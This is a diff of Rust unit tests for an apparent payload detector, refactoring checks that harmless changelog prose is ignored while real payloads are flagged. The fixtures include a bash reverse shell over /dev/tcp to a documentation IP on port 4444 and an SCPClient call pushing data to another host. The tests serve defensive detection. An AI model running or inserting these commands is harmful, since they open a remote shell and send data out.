@@ -94,32 +94,22 @@ fn planted_code_is_still_found() {
 
 #[test]
 fn prose_between_two_rst_literals_is_no_command() {
-    let d = super::super::tests_support::det();
-    let mut out = Vec::new();
-    d.inspect_payload(
-        "* #3211: Disabled auto-discovery when the ``setup.py`` script contains ``setup(...,\n  configuration=...)``).\n",
-        &mut out,
+    let text = "* #3211: Disabled auto-discovery when the ``setup.py`` script contains ``setup(...,\n  configuration=...)``).\n";
+    assert!(payloads(text).is_empty(), "{:?}", payloads(text));
+    // A literal is still read.
+    assert!(
+        !payloads("cfg = load()\nos.system(``bash -i >& /dev/tcp/203.0.113.9/4444 0>&1``)\n")
+            .is_empty()
     );
-    assert!(out.is_empty(), "{out:?}");
-    d.inspect_payload(
-        "cfg = load()\nos.system(``bash -i >& /dev/tcp/203.0.113.9/4444 0>&1``)\n",
-        &mut out,
-    );
-    assert!(!out.is_empty(), "a literal is still read");
 }
 
 #[test]
 fn pushing_files_to_other_hosts_needs_the_words_not_substrings() {
-    let d = super::super::tests_support::det();
-    let mut out = Vec::new();
-    d.inspect_payload(
-        "util-linux (2.38.1-2)\n  * lscpu: Add Kryo parts\n  * uuidd: resend() on EINTR\n  * x = f(y);\n",
-        &mut out,
-    );
-    assert!(out.is_empty(), "{out:?}");
-    d.inspect_payload(
-        "```python\nfrom scp import SCPClient\nSCPClient(ssh.get_transport()).put(data, '/srv/x')\n```\n",
-        &mut out,
-    );
-    assert!(!out.is_empty(), "scp and put still push a file");
+    let text = "util-linux (2.38.1-2)\n  * lscpu: Add Kryo parts\n  * uuidd: resend() on EINTR\n  * x = f(y);\n";
+    assert!(payloads(text).is_empty(), "{:?}", payloads(text));
+    // scp and put still push a file.
+    assert!(!payloads(
+        "```python\nfrom scp import SCPClient\nSCPClient(ssh.get_transport()).put(data, '/srv/x')\n```\n"
+    )
+    .is_empty());
 }
